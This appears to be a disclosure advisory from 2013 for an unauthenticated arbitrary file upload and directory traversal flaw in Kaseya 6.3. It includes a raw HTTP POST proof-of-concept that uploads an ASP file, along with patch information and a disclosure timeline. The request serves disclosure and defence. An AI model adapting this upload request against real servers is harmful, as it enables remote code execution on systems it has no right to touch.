Kaseya - Arbitrary File Upload Vulnerability

ID 1337DAY-ID-21542
Type zdt
Reporter Thomas Hibbert
Modified 2013-11-19T00:00:00Kaseya version suffers from a remote shell upload vulnerability.

                                            Kaseya Shell Upload Vulnerability


Kaseya 6.3 suffers from an Arbitrary File Upload vulnerability that can be leveraged to gain remote code
execution on the Kaseya server. The code executed in this way will run with a local IUSR account’s privileges.
The vulnerability lies within the /SystemTab/UploadImage.asp file. This file constructs a file object on disk using user input, without first checking if the user is authenticated or if input is valid. The application preserves the file name and extension of the upload, and allows an attacker to traverse from the default destination directory.
Directory traversal is not necessary to gain code execution however, as the default path lies within the
application’s web-root.


POST /SystemTab/uploadImage.asp?filename=..\..\..\..\test.asp HTTP/1.1
Host: <host>
User-Agent: Mozilla/5.0 (Windows NT 6.1; rv:22.0) Gecko/20100101 Firefox/22.0
Referer: http://<host>/SystemTab/uploadImage.asp
Cookie: ASPSESSIONIDQATSBAQC=<valid session>;
Connection: keep-alive
Content-Type: multipart/form-data; boundary=---
Content-Length: 89
Content-Disposition: form-data; name="uploadFile";filename="test.asp"
Content-Type: application/octet-stream
<!DOCTYPE html>
response.write("Hello World!")

| Fix |

Installthe patch released by the vendor on the 12th of November 2013.

|Disclosure Timeline|

9/10/2013 Bug discovered, vendor contacted
20/10/2013 Vendor responds with email address for security contact. Advisory sent to security contact.30/10/2013 Vendor advises that patch for the reported issue isto be included in next patch cycle.
12/11/2013 Patch released.
18/11/2013 Advisory publically released.

#  0day.today [2018-01-05]  #